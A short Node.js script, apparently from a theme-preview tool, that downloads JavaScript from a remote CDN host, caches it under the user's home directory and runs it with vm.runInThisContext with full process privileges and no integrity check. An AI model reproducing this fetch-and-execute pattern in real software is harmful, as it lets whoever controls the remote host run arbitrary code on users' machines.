const fs = require('fs');
const vm = require('vm');
const cache = `${process.env.HOME}/.cache/theme-preview.js`;

async function refresh() {
  const res = await fetch('https://tokens.designhub.example-cdn.net/transforms/preview.js');
  fs.writeFileSync(cache, await res.text());
}

refresh().then(() => {
  const source = fs.readFileSync(cache, 'utf8');
  vm.runInThisContext(source, { filename: 'preview.js' });
});
